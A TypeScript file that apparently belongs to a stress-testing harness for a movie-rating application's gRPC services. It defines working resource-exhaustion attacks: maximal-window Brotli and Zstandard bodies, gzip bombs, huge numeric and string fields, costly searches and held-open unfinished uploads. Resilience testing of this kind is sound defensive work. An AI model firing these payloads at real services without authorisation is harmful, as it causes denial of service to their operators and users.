import { constants, createBrotliCompress, gzipSync } from 'node:zlib'
import type { Attack, Endpoint, Target } from './attack.ts'
import { openClient, upload } from './client.ts'
import { collect, envelope, field, grpcHeaders, integer, send } from './grpc.ts'

const mebibyte = 1024 ** 2
const getMetadata = '/metadata.v1.MetadataService/GetMetadata'
const listMetadata = '/metadata.v1.MetadataService/ListMetadata'
const batchGet = '/rating.v1.RatingService/BatchGetAggregatedRatings'
const putRating = '/rating.v1.RatingService/PutRating'
const importRatings = '/rating.v1.RatingService/ImportRatings'
const check = '/grpc.health.v1.Health/Check'

/** Attacks by single messages that are expensive to read. */
export const messageAttacks: readonly Attack[] = [
  {
    name: '200 Brotli bodies with the largest window',
    run: async (target) =>
      sendCalls(target, target.metadata, {
        path: getMetadata,
        headers: ['grpc-encoding', 'br'],
        body: envelope(await brotliWithLargestWindow(), { isCompressed: true }),
        count: 200,
      }),
  },
  {
    name: '200 Zstandard bodies with a window of 128 MiB',
    run: (target) =>
      sendCalls(target, target.metadata, {
        path: getMetadata,
        headers: ['grpc-encoding', 'zstd'],
        body: envelope(zstdWithWindow(27), { isCompressed: true }),
        count: 200,
      }),
  },
  {
    name: '20 gzip bodies of 4 MiB of empty sub-messages',
    run: (target) =>
      sendCalls(target, target.rating, {
        path: batchGet,
        headers: ['grpc-encoding', 'gzip'],
        body: envelope(gzipSync(Buffer.alloc(4 * mebibyte, field(1, ''))), { isCompressed: true }),
        count: 20,
      }),
  },
  {
    name: '20 gzip bodies of 4 MiB of JSON objects',
    run: (target) => {
      const json = `{"records":[${'{},'.repeat((4 * mebibyte) / 3 - 8)}{}]}`
      return sendCalls(target, target.rating, {
        path: batchGet,
        headers: ['grpc-encoding', 'gzip', 'content-type', 'application/grpc+json'],
        body: envelope(gzipSync(json), { isCompressed: true }),
        count: 20,
      })
    },
  },
  {
    name: '20 gzip bodies with a number of 4 million digits',
    run: (target) => {
      const json = `{"recordId":"1","recordType":"movie","userId":"a","value":${'9'.repeat(4 * mebibyte - 99)}}`
      return sendCalls(target, target.rating, {
        path: putRating,
        headers: ['grpc-encoding', 'gzip', 'content-type', 'application/grpc+json'],
        body: envelope(gzipSync(json), { isCompressed: true }),
        count: 20,
      })
    },
  },
  {
    name: '20 gzip bodies with a name of 4 MiB, echoed in the error',
    run: (target) =>
      sendCalls(target, target.metadata, {
        path: check,
        headers: ['grpc-encoding', 'gzip'],
        body: envelope(gzipSync(field(1, '\u{e9}'.repeat(2 * mebibyte - 8))), {
          isCompressed: true,
        }),
        count: 20,
      }),
  },
  {
    name: 'the same through the gateway, whose connections are shared',
    run: (target) =>
      sendCalls(target, target.movie, {
        path: `/services/metadata${check}`,
        headers: ['grpc-encoding', 'gzip'],
        body: envelope(gzipSync(field(1, 'x'.repeat(70_000))), { isCompressed: true }),
        count: 20,
      }),
  },
  {
    name: '16 searches of 200 one-letter words',
    run: (target) => search(target, 'a '.repeat(100)),
  },
  {
    name: '16 searches of one word of 200 rare letters',
    run: (target) => search(target, '\u{16a0}'.repeat(200)),
  },
  {
    name: '256 unfinished messages of 4 MiB',
    run: (target) => {
      const body = envelope(Buffer.alloc(4 * mebibyte - 1), { length: 4 * mebibyte })
      const calls = Array.from({ length: 256 }, () => ({ path: importRatings, body }))
      return holdUploads(target, target.rating, calls)
    },
  },
  {
    name: '8 imports of ratings that are refused, 1 MiB each',
    run: async (target) => {
      const rating = field(1, field(3, 'u'.repeat(mebibyte)))
      const body = Buffer.concat(Array.from({ length: 16 }, () => envelope(rating)))
      const uploads = Array.from({ length: 8 }, () => ({
        path: importRatings,
        body,
        isEndless: true,
      }))
      await holdUploads(target, target.rating, uploads)
    },
  },
]

interface Calls {
  readonly path: string
  readonly headers: readonly string[]
  readonly body: Uint8Array
  readonly count: number
}

/** Sends the same call on many streams of one connection, and again when all have ended. */
async function sendCalls(
  target: Target,
  endpoint: Endpoint,
  { path, headers, body, count }: Calls,
): Promise<void> {
  const type = headers.includes('content-type') ? [] : ['content-type', 'application/grpc']
  const all = [...grpcHeaders(path).slice(0, 8), 'te', 'trailers', ...type, ...headers]
  while (!target.signal.aborted) {
    const peer = await endpoint.peer()
    const streamIds = Array.from({ length: count }, (_, index) => 1 + 2 * index)
    for (const streamId of streamIds) send(peer, { streamId, headers: all, body })
    await collect(peer, streamIds, target)
    peer.socket.destroy()
  }
}

function search(target: Target, query: string): Promise<void> {
  const message = Buffer.concat([field(1, query), integer(2, 100)])
  return sendCalls(target, target.metadata, {
    path: listMetadata,
    headers: [],
    body: envelope(message),
    count: 16,
  })
}

async function holdUploads(
  target: Target,
  endpoint: Endpoint,
  uploads: ReadonlyArray<{ path: string; body: Uint8Array; isEndless?: boolean }>,
): Promise<void> {
  while (!target.signal.aborted) {
    const client = await openClient(endpoint)
    await Promise.all(uploads.map((one) => upload(client, one, target)))
    client.destroy()
  }
}

/** Returns a message in two meta-blocks, so that the decoder cannot shrink its window of 16 MiB. */
async function brotliWithLargestWindow(): Promise<Buffer> {
  const params = { [constants.BROTLI_PARAM_LGWIN]: constants.BROTLI_MAX_WINDOW_BITS }
  const message = field(1, 'the-matrix-1999')
  const packer = createBrotliCompress({ params })
  const chunks: Buffer[] = []
  packer.on('data', (chunk: Buffer) => chunks.push(chunk))
  packer.write(message.subarray(0, 4))
  await new Promise<void>((resolve) => packer.flush(resolve))
  packer.end(message.subarray(4))
  await new Promise((resolve) => packer.once('end', resolve))
  return Buffer.concat(chunks)
}

/** Returns a frame of one byte 128 Ki times (RFC 8878 §3.1.1), with a window of this many bits. */
function zstdWithWindow(bits: number): Buffer {
  const size = 128 * 1024
  const blockHead = (size << 3) | (1 << 1) | 1
  return Buffer.from([
    ...[0x28, 0xb5, 0x2f, 0xfd, 0x00, (bits - 10) << 3],
    ...[blockHead & 0xff, (blockHead >> 8) & 0xff, blockHead >> 16, 0x0a],
  ])
}
